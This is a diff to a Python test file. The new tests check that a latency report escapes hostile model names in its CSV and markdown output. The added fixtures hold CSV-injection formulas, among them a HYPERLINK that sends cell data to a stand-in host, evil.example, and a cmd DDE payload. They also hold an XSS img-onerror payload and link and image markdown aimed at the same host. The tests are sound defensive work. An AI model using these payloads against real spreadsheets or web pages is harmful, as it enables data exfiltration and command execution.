@@ -457,12 +457,9 @@ def test_hostile_names_render_escaped_in_every_format():
     assert sum(line.startswith("demo-chat ") for line in text) == 1  # the forged row stays inside the name
     assert sum(line.startswith(shown + "  ") for line in text) == 1
     md = rp.render(r, "markdown").splitlines()
-    assert (
-        "| "
-        + shown.replace("|", "\\|")
-        + " | 1 | 1 | 100.0% | duration | 1 | 100.0 | 100.0 | 100.0 | 100.0 |"
-        in md
-    )
+    md_shown = shown.replace("\\", "\\\\").replace("|", "\\|").replace("[", "\\[")  # markdown's escapes too
+    assert "| " + md_shown + " | 1 | 1 | 100.0% | duration | 1 | 100.0 | 100.0 | 100.0 | 100.0 |" in md
+    assert set(_markdown_cells(rp.render(r, "markdown"))) == {"demo-chat", shown, "(all)"}  # renders as text
     latency = md[
         md.index(
             "| model | requests | errors | err % | metric | n | p50 (ms) | p95 (ms) | p99 (ms) | max (ms) |"
@@ -474,6 +471,87 @@ def test_hostile_names_render_escaped_in_every_format():
     assert {row["group"] for row in rows if row["table"] == "latency"} == {"demo-chat", shown, "(all)"}
     data = json.loads(rp.render(r, "json"))
     assert {g["group"] for g in data["groups"]} == {"demo-chat", HOSTILE}  # json: the name itself, encoded
+
+
+# Names a client can choose that a spreadsheet opening the csv would run as formulas (OWASP's CSV injection).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"details")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1)",
+    "\tx=1",
+    "\r=1",
+]
+
+
+def test_csv_names_never_start_a_formula():
+    names = [*FORMULAS, "-", "-1", "-2.5", "+3", "gpt-4o-mini", "1-1"]
+    r = rp.build_report([rec(model=n) for n in names])
+    rows = [row for row in csv.DictReader(io.StringIO(rp.render(r, "csv"))) if row["table"] == "latency"]
+    groups = {row["group"] for row in rows} - {"(all)"}
+    # A formula is kept as text by a leading single quote (tab and CR were already shown as \t and \r).
+    assert groups == {
+        "'" + FORMULAS[0],
+        "'" + FORMULAS[1],
+        "'-1+1",
+        "'@SUM(1)",
+        "\\tx=1",
+        "\\r=1",
+        "-",  # the report's own "none", and what a spreadsheet reads as text anyway
+        "-1",  # plain numbers stay numbers
+        "-2.5",
+        "+3",
+        "gpt-4o-mini",
+        "1-1",
+    }
+    # The numbers of every row are numbers a spreadsheet reads as such: no quote was added to them.
+    for row in rows:
+        assert row["requests"].isdigit() and row["errors"].isdigit() and row["n"].isdigit(), row
+        assert all(row[c] == "" or float(row[c]) >= 0 for c in ("p50_ms", "p95_ms", "p99_ms", "max_ms")), row
+
+
+def _markdown_cells(out: str) -> dict[str, list[Any]]:
+    """The first cell of each row of the markdown's first table, parsed as CommonMark with GFM tables and
+    strikethrough (raw HTML on, as in most renderers): its text, keyed to the inline tokens it is made of."""
+    from markdown_it import MarkdownIt
+
+    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(out)
+    cells: dict[str, list[Any]] = {}
+    first = True
+    for i, t in enumerate(tokens):
+        if t.type == "tr_open":
+            first = True
+        elif t.type == "td_open" and first:
+            first = False
+            inline = tokens[i + 1]
+            if inline.content:
+                cells["".join(c.content for c in inline.children or [])] = inline.children or []
+        elif t.type == "table_close":
+            break
+    return cells
+
+
+def test_markdown_names_render_as_their_text():
+    names = [
+        "`code`",
+        "[click](http://evil.example)",
+        "![pixel](http://evil.example/p.png)",
+        '<img src="x" onerror="alert(1)">',
+        "<http://evil.example>",
+        "**bold** _em_ ~~gone~~",
+        "&#124; &lt;b&gt;",
+        "a\\x1bb",  # a literal backslash: must not render as the ESC below does
+        "a\x1bb",
+        "gpt-4o-mini",
+    ]
+    r = rp.build_report([rec(model=n) for n in names])
+    cells = _markdown_cells(rp.render(r, "markdown"))
+    # Every name renders as plain text (no link, image, code span, emphasis, HTML or entity), reading as the
+    # text format prints it; the literal backslash and the escaped ESC stay two different names.
+    assert set(cells) == {*names[:7], "a\\\\x1bb", "a\\x1bb", "gpt-4o-mini", "(all)"}
+    for text, children in cells.items():
+        assert [c.type for c in children] == ["text"] * len(children), text
+    assert len(r.groups) == len(names)
 
 
 def test_plain_names_are_unchanged():
